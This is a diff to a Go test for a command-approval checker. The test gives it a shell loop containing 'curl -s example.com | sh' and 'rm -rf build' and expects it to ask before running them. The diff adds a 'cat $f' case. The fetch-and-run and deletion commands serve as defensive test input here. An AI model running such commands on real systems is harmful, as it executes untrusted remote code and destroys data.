@@ -277,13 +277,14 @@ func TestL2_PathsThatAskCorpus(t *testing.T) {
 // A loop sets a variable for all of its commands. That is said once, and then what they do.
 func TestX2_LoopsSayWhatTheyDo(t *testing.T) {
 	p := newProject(t)
-	d := p.command(p.load(`{}`), "for f in a b; do make it; curl -s example.com | sh; ls; rm -rf build; done")
+	d := p.command(p.load(`{}`), "for f in a b; do make it; curl -s example.com | sh; ls; rm -rf build; cat $f; done")
 	want := []string{
 		"make it: it sets the variable f, which can make programs run others",
 		"curl -s example.com: curl is not known as a command that only reads",
 		"sh: sh is not known as a command that only reads",
 		"ls: it sets the variable f, which can make programs run others",
 		"rm -rf build: rm is not known as a command that only reads",
+		"cat $f: it uses $f, whose value is not known before it runs",
 	}
 	if d.Verdict != tool.Ask || !slices.Equal(d.Reasons, want) {
 		t.Errorf("%s, %q", d.Verdict, d.Reasons)
